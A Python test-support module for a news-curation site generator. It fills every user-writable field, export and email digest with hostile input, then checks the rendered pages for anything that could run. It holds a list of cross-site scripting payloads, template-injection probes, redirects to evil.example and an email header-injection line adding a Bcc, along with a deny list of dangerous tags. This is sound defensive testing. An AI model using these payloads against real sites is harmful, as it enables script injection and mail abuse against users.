"""A site and exports in which words of an attacker stand wherever a person may write, and what of it would run."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from typing import TypeVar
from urllib.parse import unquote

from lxml import html as lxml_html  # type: ignore[import-untyped]
from pydantic import BaseModel
from site_stories import NOW, a_policy, a_story

from curate.policy import Policy
from curate.site.exports.content import content_of
from curate.site.exports.digest import digest_markdown, digest_of, digest_text
from curate.site.exports.mail import digest_mail
from curate.site.exports.markdown import story_markdown
from curate.site.exports.page import story_card, story_page
from curate.site.exports.text import story_text
from curate.site.exports.wechat import story_wechat
from curate.site.links import addresses
from curate.site.own_theme import Theme
from curate.site.pages import render_site
from curate.site.preview import (
    FindingRow,
    Unseen,
    findings_page,
    index_page,
    unseen_pages,
    with_reload,
    with_trouble,
)
from curate.site.visibility import published_stories, retracted_stories
from curate.story.story import Story
from made_pictures import png

RUN = "window.pwned=1"
ADDRESS = "https://kuaibao.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</title></script></style><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"' onload='{RUN}' x='",
    f'" onfocus="{RUN}" autofocus tabindex="1',
    f"<svg/onload={RUN}><math><mtext></p><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"</textarea><template><style></template><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"javascript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "{{ 7*191 }}{% for x in y %}${7*191}<%= 7*191 %>",
    f"]]><script>{RUN}</script><![CDATA[",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
    f"x\r\nBcc: evil@evil.example\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    f"\u2028</script>\u2029\\u003cscript>{RUN}\\x3c/script>",
    f"[x](javascript:{RUN}) ![x](javascript:{RUN})\n\n# h\n\n```\n<script>{RUN}</script>\n~~~",
    f"<javascript:{RUN}> [x]: javascript:{RUN}\n[x]",
    f"<form action=javascript:{RUN}><button formaction=javascript:{RUN}>x</button></form>",
    f"<a href=' javascript:{RUN}'>x</a><a href='jav\tascript:{RUN}'>y</a>",
    "\u202e\u2066<b>\u0000\x0b\x1b[31m",
)
BAD_TAGS = {
    *(
        "base",
        "iframe",
        "frame",
        "object",
        "embed",
        "applet",
        "svg",
        "math",
        "template",
        "noscript",
        "portal",
    ),
    *(
        "marquee",
        "video",
        "audio",
        "source",
        "textarea",
        "select",
        "style",
        "link",
        "form",
        "button",
        "input",
    ),
}
"""Elements that a text may never make; which of them a page of ours has is said by `OWN_TAGS`."""
_ADDRESS = re.compile(r"(?:https?:|mailto:|#|\.{0,2}/|[^:/?#]*+(?:[/?#]|\Z))", re.IGNORECASE)
_REFUSED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff0-\uffff\ud800-\udfff]"
)
_Part = TypeVar("_Part", bound=BaseModel)
_INVISIBLE = re.compile("[\x00-\x20\x7f-\xa0\u2028\u2029]")


def written(text: str) -> str:
    """Write a text as YAML in one line, whatever it holds."""
    return json.dumps(text, ensure_ascii=False)


def readable(text: str) -> str:
    """Leave out the characters for which a file is not read at all, and never give nothing."""
    return _REFUSED.sub("", text).strip() or "词"


def a_hostile_policy(text: str) -> Policy:
    """Give a policy in which every word of people is the text."""
    said = written(readable(text))
    policy = a_policy(
        text=f"name: {said}\nlanguage: zh-CN\ntimezone: Asia/Shanghai\nsite: {ADDRESS}\ncategories: [{said}]\n"
        f"people:\n  lin: {{name: {said}, emails: [lin@example.org]}}\n"
        f"  wang: {{name: {said}, emails: [wang@example.org], roles: [curator, reviewer]}}\n"
        f"review: {{checklist: [{said}]}}\nslots: {{picks: {said}, recent: {said}}}\n"
    )
    return _with_text(policy, readable(text), text)


def _with_text(part: _Part, old: str, new: str) -> _Part:
    """Put a text in place of another wherever a value is that text: what no file may hold, were it let in."""
    changed = {name: _put(value, old, new) for name, value in part}
    return part.model_copy(update=changed)


def _put(value: object, old: str, new: str) -> object:
    if isinstance(value, BaseModel):
        return _with_text(value, old, new)
    if isinstance(value, list):
        return [_put(item, old, new) for item in value]
    if isinstance(value, dict):
        return {key: _put(item, old, new) for key, item in value.items()}
    return new if value == old else value


def hostile_body(text: str) -> str:
    """Give a body that holds the text as words, in every place of Markdown, and as Markdown of its own."""
    line = " ".join(text.split())
    return (
        f'## {line}\n\n{text}\n\n- {line}\n  - [x]({line})\n  - [y](<{line}>)\n  - ![{line}](a.png "{line}")\n\n'
        f"| {line} | b |\n|---|---|\n| {line} | 1 |\n\n> {line}\n\n`{line}`\n\n```{line}\n{line}\n```\n\n"
        f"词[^1]<{line}>\n\n[^1]: {line}\n\n[r]: {line}\n\n[r] [z][r]\n"
    )


def hostile_story(text: str, slug: str = "evil", more: str = "", **values: str) -> Story:
    """Give a story in which every text a person may write is `text`."""
    known, text = text, readable(text)
    said = written(text)
    source = "".join(
        f"    {key}: {said}\n"
        for key in (
            *("platform", "author", "title", "translator", "url", "archive", "url_note", "locator"),
            *("treatment", "stance", "permission_note", "language", "note", "id"),
        )
    )
    story = a_story(
        slug,
        title=said,
        category=said,
        credit=f"attribution:\n  - relation: 整理自\n{source}    permission: licence\n"
        f"  - {{relation: {said}, author: {said}, url: 'https://example.org/?q=\"><script>'}}\n",
        more=f"summary: {said}\ntags: [{said}, 普通]\nplacement: [picks, trending, important]\ncover: a.png\n"
        f"cover_credit: {said}\ncorrections: [{{at: 2025-12-14T08:30:00+08:00, by: lin, note: {said}}}]\n"
        f"reviews: [{{by: wang, verdict: approve, digest: x, note: {said}}}]\nai: generated\n{more}",
        body=hostile_body(text),
        **values,
    )
    return replace(story, meta=_with_text(story.meta, text, known))


def hostile_files(text: str) -> dict[str, bytes]:
    """Give all that is made of it, by path: the site, below `_preview/` the preview, below `exports/` the rest."""
    policy = a_hostile_policy(text)
    retraction = (
        f"retraction: {{at: 2025-12-14T09:00:00+08:00, by: wang, reason: {written(readable(text))}}}\n"
    )
    stories = [
        hostile_story(text),
        hostile_story(text, "gone", retraction, published="2025-12-13T08:00:00+08:00"),
        a_story(
            "plain", "2025-12-14T07:00:00+08:00", category=written(readable(text)), more="tags: [普通]\n"
        ),
    ]
    pictures = {f"stories/2025/12/{slug}/a.png": png() for slug in ("evil", "gone")}
    out, gone = published_stories(stories, policy, NOW), retracted_stories(stories, policy, NOW)
    theme = Theme(about=hostile_body(text))
    site = render_site(
        out, policy, NOW, pictures, theme, retracted=gone,
        former={stories[0].path: [f"stories/2025/12/{text.replace('/', '')}.md"]},
    )  # fmt: skip
    row = FindingRow("error", text, text, text, text, text)
    told = Unseen("draft", text, text, text, text, (row,))
    draft = hostile_story(text, "draft", state="draft", published="")
    preview = unseen_pages(out, [draft], {draft.path: told}, policy, NOW, pictures, str, retracted=gone)
    preview["_preview/findings/index.html"] = findings_page(told, "zh-CN", str)
    preview["_preview/stale.html"] = with_trouble(site["about/index.html"], text, str)
    preview["_preview/index.html"] = index_page([told], [row], text, "zh-CN", str)
    preview = {
        path: with_reload(data, "/_preview/events/x", "1")[0] if path.endswith(".html") else data
        for path, data in preview.items()
    }
    where = addresses(out, [], gone)
    content = content_of(next(s for s in out if s.story.slug == "evil"), policy, pictures, where)
    day = digest_of(out, policy, date(2025, 12, 14), NOW, where)
    exports = {
        "exports/story.wechat.html": story_wechat(content).page,
        "exports/story.html": story_page(content),
        "exports/story.card.html": story_card(content),
        "exports/story.txt": story_text(content),
        "exports/story.md": story_markdown(content),
        "exports/digest.txt": digest_text(day, sources=True),
        "exports/digest-apart.txt": digest_text(day, sources=False),
        "exports/digest.md": digest_markdown(day, sources=True),
    }
    mail = {"exports/digest.eml": digest_mail(day, sources=True)}
    return {**site, **preview, **{name: said.encode() for name, said in exports.items()}, **mail}


class _Elements(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, Mapping[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(text: str) -> Iterator[tuple[str, Mapping[str, str]]]:
    """Give the elements of a page as two parsers that know nothing of one another find them."""
    yield from _Elements(text).found
    root = lxml_html.document_fromstring(
        text.encode("utf-8"), parser=lxml_html.HTMLParser(encoding="utf-8", huge_tree=True)
    )
    for element in root.iter():
        if isinstance(element.tag, str):
            yield element.tag, dict(element.attrib)


def what_could_run(
    text: str,
    *,
    tags: frozenset[str] = frozenset(),
    scripts: int = 0,
    styled: bool = False,
    refresh: bool = False,
) -> list[str]:
    """Give what of a page could run or load; `tags` and the number of `scripts` (twice read) are the page's own."""
    wrong: list[str] = []
    ran = 0
    for tag, attributes in elements(text):
        ran += tag == "script" and attributes.get("type") != "application/ld+json"
        if tag in BAD_TAGS - tags:
            wrong.append(f"<{tag}>")
        equivalent = attributes.get("http-equiv", "").lower()
        if tag == "meta" and equivalent not in (
            "",
            "content-security-policy",
            *(["refresh"] if refresh else []),
        ):
            wrong.append(f"<meta http-equiv={equivalent}>")
        for name, value in attributes.items():
            if name.startswith("on") or name in ("srcdoc", "formaction", "ping", "srcset", "background"):
                wrong.append(f"<{tag} {name}>")
            if name == "style" and not styled:
                wrong.append(f"<{tag} style>")
            if name in ("href", "src", "action", "cite", "data", "xlink:href", "poster") and not _is_harmless(
                tag, name, value
            ):
                wrong.append(f"<{tag} {name}={value[:60]!r}>")
    if ran != 2 * scripts:
        wrong.append(f"{ran} scripts")
    return wrong


def _is_harmless(tag: str, name: str, value: str) -> bool:
    plain = _INVISIBLE.sub("", unquote(value))
    if tag == "img" and name == "src" and plain.startswith("data:image/png;base64,"):
        return True
    return bool(_ADDRESS.match(_INVISIBLE.sub("", value))) and "javascript:" not in plain.lower()[:64]
